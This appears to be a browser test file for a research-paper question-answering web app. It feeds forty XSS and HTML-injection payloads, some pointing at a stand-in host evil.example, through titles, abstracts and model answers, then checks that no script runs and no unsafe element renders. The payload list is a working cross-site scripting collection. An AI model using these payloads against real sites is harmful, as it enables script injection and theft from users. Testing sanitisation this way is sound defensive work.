"""Forty ways to bring a script onto a page, in everything that others write, in a real browser: none runs."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import replace
from typing import Any

import pytest
from reading_room import PAPER, QUOTE, Running, Scripted, chromium, growing, looking, running

from rag.types import Answer, Citation, Page, Paper, Pick, Profile, Scope, Turn

pytestmark = pytest.mark.browser

RUN = "window.owned=1"
AWAY = "http://evil.example/x"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src={AWAY}.png>",
    f"<img srcset={AWAY}.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data={AWAY}>",
    f"<embed src={AWAY}>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"[x](javascript:{RUN})",
    f"![x]({AWAY}.png)",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<div style=background:url({AWAY})>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><button autofocus>x",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}",
    "${" + RUN + "}",
    "{{" + RUN + "}} {{{" + RUN + "}}} {% raw %}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e %3Cscript%3E{RUN}%3C/script%3E",
)


def poisoned(payload: str) -> Paper:
    return replace(
        PAPER,
        id=f"p{PAYLOADS.index(payload)}",
        title=payload,
        authors=(payload, "A. Author"),
        affiliations=(payload,),
        category=payload[:9],
        page_author=PAYLOADS[4],
        abstract=f"{payload} {QUOTE} {payload}",
        index=PAYLOADS.index(payload),
    )


class Poisoned(Scripted):
    """What it is asked comes back as title, author, abstract and model's words; its shelf holds them all."""

    def papers(self, scope: Scope) -> Sequence[Paper]:
        return [poisoned(payload) for payload in PAYLOADS]

    def pages(self) -> Sequence[Page]:
        return [Page("004.txt", "plain", PAYLOADS[4], True, 2026, "0", Profile())]

    def stream(
        self, question: str, history: Sequence[Turn], *, scope: Scope, pick: Pick | None
    ) -> Iterator[Answer]:
        payload = question if question in PAYLOADS else PAYLOADS[0]
        paper = poisoned(payload)
        for answer in growing(question):
            claims = tuple(replace(claim, text=f"{claim.text} {payload}") for claim in answer.claims)
            cited = (Citation(1, paper),)
            yield replace(answer, text=payload, draft=payload, claims=claims, citations=cited, model=payload)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as opened:
        yield opened


@pytest.fixture(scope="module")
def site() -> Iterator[Running]:
    yield from running(Poisoned(), examples=[(payload, payload) for payload in PAYLOADS])


def test_forty_are_tried() -> None:
    assert len(set(PAYLOADS)) == 40


def test_no_script_of_others_runs(browser: Any, site: Running) -> None:
    """`looking` sees to it that nothing is fetched from elsewhere and no policy had to step in."""
    with looking(browser, site) as seen:
        page = seen.page
        page.on("dialog", lambda dialog: seen.complaints.append(dialog.message))
        for number, payload in enumerate(PAYLOADS, 1):
            seen.ask(payload)
            page.locator(f"#exchange-{number}").get_by_role("button", name="Good answer").wait_for()
        page.locator("#current .beside summary").first.click()
        page.get_by_role("tab", name="Shelf").click()
        page.locator(".listed").first.wait_for()
        assert page.evaluate("window.owned") is None
        shown = page.evaluate("[...document.querySelectorAll('#ask-view *, #shelf-view *')].length")
        assert shown > 40
        bad = "img, iframe, object, embed, base, form[action], [onerror], [onload], [onfocus]"
        for part in ("earlier", "current", "shelf-view", "welcome", "drawer"):
            assert page.locator(f"#{part} :is({bad}, a[href^='javascript'])").count() == 0, part
